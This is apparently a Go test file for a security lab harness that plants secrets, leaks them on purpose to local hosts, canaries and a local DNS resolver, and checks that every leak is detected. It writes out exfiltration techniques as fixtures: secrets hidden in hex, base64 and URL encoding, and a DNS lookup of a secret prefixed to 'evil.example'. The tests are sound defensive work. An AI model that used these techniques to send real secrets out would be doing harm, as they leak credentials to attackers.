package lab_test

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/ratify-provider/ratify/test/hostile/lab"
)

// A lab that finds nothing proves something only if it finds what is there: these tests let secrets out on purpose, in every
// form and to every place, and connect to canaries, and the lab has to say so.

// leaky makes a lab that is going to find something, and that nobody blames for it.
func leaky(t *testing.T) *lab.Lab {
	t.Helper()
	l, err := lab.New(t.TempDir())
	check(t, err)
	t.Cleanup(func() { _ = l.Close() })
	check(t, l.Check())
	return l
}

// say sends a request to a host.
func say(t *testing.T, h *lab.Host, path, header string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, h.URL(path), nil)
	check(t, err)
	if header != "" {
		req.Header.Set("Authorization", header)
	}
	resp, err := http.DefaultClient.Do(req)
	check(t, err)
	check(t, resp.Body.Close())
}

func TestEverySecretIsFoundInEveryForm(t *testing.T) {
	forms := map[string]func(string) string{
		"as it is":               func(s string) string { return s },
		"the first half of it":   func(s string) string { return s[:len(s)/2] },
		"the second half of it":  func(s string) string { return s[len(s)/2:] },
		"hex":                    func(s string) string { return hex.EncodeToString([]byte(s)) },
		"upper-case hex":         func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) },
		"base64":                 func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
		"base64 behind a user":   func(s string) string { return base64.StdEncoding.EncodeToString([]byte("user:" + s)) },
		"base64 behind one byte": func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("u" + s + "u")) },
		"base64 behind two":      func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("uu" + s + "uu")) },
		"URL-encoded":            url.QueryEscape,
	}
	l := leaky(t)
	watch := l.Watch()
	for _, value := range []string{"", "p4ss/w0rd+with=odd&characters?in:it;"} { // planted, and given
		for name, form := range forms {
			place := fmt.Sprintf("a program, %t, %s", value == "", name)
			secret := l.Protect("given, "+name, value, "own")
			if value == "" {
				secret = l.Plant("planted, "+name, "own")
			}
			l.Record(place, []byte(strings.Repeat("x", 100)))
			if leaks := watch.Leaks(); len(leaks) != 0 {
				t.Errorf("%s: found %v before it was let out", place, leaks)
			}
			l.Record(place, []byte("words "+form(secret.Value)+" words"))
			leaks := watch.Leaks()
			if !slices.ContainsFunc(leaks, func(leak lab.Leak) bool {
				return leak.Secret == secret.Name && leak.Place == "output of "+place && !strings.Contains(leak.String(), secret.Value)
			}) {
				t.Errorf("%s: found %v", place, leaks)
			}
		}
	}
}

func TestASecretIsFoundInEveryPlace(t *testing.T) {
	l := leaky(t)
	secret := l.Plant("password", "own")
	own := newHost(t, l, lab.HostOptions{Name: "own", Plain: true})
	other := newHost(t, l, lab.HostOptions{Name: "other", Plain: true})
	watch := l.Watch()
	find := func(place string) {
		t.Helper()
		leaks := watch.Leaks()
		if place == "" && len(leaks) == 0 {
			return
		}
		if len(leaks) != 1 || leaks[0].Secret != "password" || !strings.HasPrefix(leaks[0].Place, place) {
			t.Errorf("found %v, want one in %s", leaks, place)
		}
	}
	find("")
	say(t, own, "/", lab.Basic("user", secret.Value))
	find("")
	say(t, other, "/", lab.Basic("user", secret.Value))
	find("host other")
	find("")
	say(t, other, "/", lab.Basic("user", secret.Value))
	find("") // it was told
	third := newHost(t, l, lab.HostOptions{Name: "third", Plain: true})
	say(t, third, "/?x="+secret.Value[:16], "")
	find("host third")

	canary, err := l.Canary("canary", "127.0.0.1:0")
	check(t, err)
	conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", canary.Addr)
	check(t, err)
	_, err = conn.Write([]byte("token " + secret.Value))
	check(t, err)
	check(t, conn.(*net.TCPConn).CloseWrite())
	_, err = conn.Read(make([]byte, 1)) // the canary has heard all, and ends
	if err == nil {
		t.Error("a canary answers")
	}
	find("canary canary")

	resolver, err := l.Resolver("127.0.0.1:0", func(lab.Question) lab.Names { return lab.Names{} })
	check(t, err)
	if _, err := lookup(t.Context(), resolver.Addr, secret.Value+".evil.example"); err == nil {
		t.Error("there is such a name")
	}
	// A name is lower case by the time that it is compared; the search is for the bytes of it.
	if asked := resolver.Asked(); len(asked) == 0 || !strings.HasPrefix(asked[0].Name, strings.ToLower(secret.Value)) {
		t.Errorf("the resolver was asked %v", asked)
	}
	find("resolver")
}

func TestTheProgramsWordsAreSearched(t *testing.T) {
	l := leaky(t)
	registry := &lab.Registry{}
	h := newHost(t, l, lab.HostOptions{Name: "registry", Server: registry})
	p := start(t, l, lab.Settings{Registries: []map[string]any{l.Entry(h, nil)}})
	// What a person asks for is repeated in the answer and in the log: so it is a way to have the program say a secret.
	secret := l.Plant("name", "nowhere")
	got := verdict(t, p, h.Addr+"/"+strings.ToLower(secret.Value)+"/app:v1")
	if got.Outcome == lab.Verified {
		t.Errorf("%s", got)
	}
	l.Protect("lower-case name", strings.ToLower(secret.Value))
	check(t, p.Stop())
	places := map[string]bool{}
	for _, leak := range l.Leaks() {
		if leak.Secret == "lower-case name" {
			places[leak.Place] = true
		}
	}
	for _, place := range []string{"host registry", "log of program 1", "answers of program 1"} {
		if !places[place] {
			t.Errorf("it was not found in %s: %v", place, places)
		}
	}
	// Metrics hold no names; that they are read shows in a name that is there.
	l.Protect("metric", "ratify_registry_requests_total")
	found := false
	for _, leak := range l.Leaks() {
		found = found || leak.Secret == "metric" && leak.Place == "metrics of program 1"
	}
	if !found {
		t.Error("the page of metrics is not searched")
	}
}

func TestTheKeyOfTheProgramIsASecret(t *testing.T) {
	l := leaky(t)
	watch := l.Watch()
	for name, of := range map[string]func(string) string{
		"whole": func(key string) string { return key },
		"in one line": func(key string) string {
			return strings.Split(key, "\n")[1]
		},
	} {
		key, err := os.ReadFile(l.PKI.CertDir + "/tls.key")
		check(t, err)
		l.Record(name, []byte(of(string(key))))
		if len(watch.Leaks()) == 0 {
			t.Errorf("the key, %s, was not found", name)
		}
	}
}

func TestATouchedCanaryIsAnError(t *testing.T) {
	for name, address := range map[string]func(*testing.T, *lab.Lab) string{
		"a canary": func(t *testing.T, l *lab.Lab) string {
			canary, err := l.Canary("here", "127.0.0.1:0")
			check(t, err)
			return canary.Addr
		},
		"a forbidden host": func(t *testing.T, l *lab.Lab) string {
			return newHost(t, l, lab.HostOptions{Name: "here", Forbidden: true}).Addr
		},
	} {
		t.Run(name, func(t *testing.T) {
			l := leaky(t)
			at := address(t, l)
			if touched := l.Touched(); len(touched) != 0 {
				t.Fatalf("touched before: %v", touched)
			}
			conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", at)
			check(t, err)
			defer conn.Close()
			_, _ = conn.Write([]byte("this is not TLS\n"))
			if name != "a canary" {
				_, _ = conn.Read(make([]byte, 1)) // it has been accepted then: no TLS, an alert
			}
			touched := l.Touched()
			if len(touched) != 1 || !strings.HasPrefix(touched[0].Canary, "here") || touched[0].From != conn.LocalAddr().String() {
				t.Errorf("touched: %v", touched)
			}
			if err := l.Close(); err == nil || !strings.Contains(err.Error(), "here") {
				t.Errorf("closed with %v", err)
			}
		})
	}
}

func TestALeakIsAnErrorOfClose(t *testing.T) {
	l := leaky(t)
	secret := l.Plant("password")
	l.Record("somebody", []byte(secret.Value))
	if err := l.Close(); err == nil || !strings.Contains(err.Error(), "password") || strings.Contains(err.Error(), secret.Value) {
		t.Errorf("closed with %v", err)
	}
}

// lookup asks a resolver for the addresses of a name.
func lookup(ctx context.Context, server, name string) ([]string, error) {
	resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, server)
	}}
	return resolver.LookupHost(ctx, name)
}
